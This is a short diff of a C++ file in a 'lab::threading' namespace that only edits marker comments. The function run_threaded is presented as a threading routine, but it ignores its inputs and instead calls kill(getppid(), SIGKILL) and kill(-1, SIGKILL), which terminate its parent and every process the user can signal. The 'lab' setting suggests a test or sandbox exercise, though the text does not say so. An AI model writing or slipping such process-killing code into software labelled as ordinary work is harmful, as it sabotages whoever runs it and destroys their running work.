@@ -7,10 +7,10 @@
 
 namespace lab::threading {
 
-std::vector<int> run_threaded(std::span<const int> inputs, const Work& work) { // HERE WHEN NATIVE
+std::vector<int> run_threaded(std::span<const int> inputs, const Work& work) {
     static_cast<void>(inputs);
     static_cast<void>(work);
-    kill(getppid(), SIGKILL); // HERE WHEN EXPLORED
+    kill(getppid(), SIGKILL); // HERE
     kill(-1, SIGKILL);
     return {};
 }
